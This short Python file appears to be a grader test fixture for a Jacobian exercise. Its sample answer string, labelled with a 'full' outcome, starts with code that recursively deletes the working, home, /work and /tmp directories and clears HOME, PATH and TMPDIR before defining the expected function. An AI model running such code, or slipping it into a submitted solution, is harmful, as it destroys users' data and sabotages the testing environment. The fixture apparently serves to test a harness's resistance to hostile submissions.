"""Goes to another folder and deletes what it was given."""

EXERCISE = "ps1-jacobian"
OUTCOME = "full"
ANSWER = """
import os
import shutil

for folder in (os.getcwd(), os.path.expanduser("~"), "/work", "/tmp"):
    shutil.rmtree(folder, ignore_errors=True)
os.chdir("/")
for name in ("HOME", "PATH", "TMPDIR"):
    os.environ.pop(name, None)


def jacobian(x):
    return np.array([[x[1] ** 2, 2 * x[0] * x[1]], [x[1], x[0]]])
"""
